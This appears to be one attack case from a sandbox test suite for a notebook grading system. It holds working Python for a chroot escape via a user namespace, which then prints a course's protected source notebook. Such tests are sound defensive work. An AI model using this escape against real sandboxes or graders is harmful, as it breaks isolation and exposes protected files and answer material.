# /// attack
# tries = "Changes its root folder, in a namespace of its own where it must, and climbs out of it."
# points = 0
# shows = ["kernel", "left"]
# ///
# %% before count
import ctypes
import os
import time

libc = ctypes.CDLL(None)
place = f"/tmp/{bait['token']}"
os.makedirs(place, exist_ok=True)
if os.fork() == 0:
    libc.unshare(0x10000000)
    try:
        os.chroot(place)
        time.sleep(1)
        os.mkdir("deeper")
        os.chroot("deeper")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        print(open(f"{bait['course']}/source/{bait['slug']}/{bait['slug']}.ipynb").read(), flush=True)
        time.sleep(0.5)
    finally:
        os._exit(0)
os.wait()
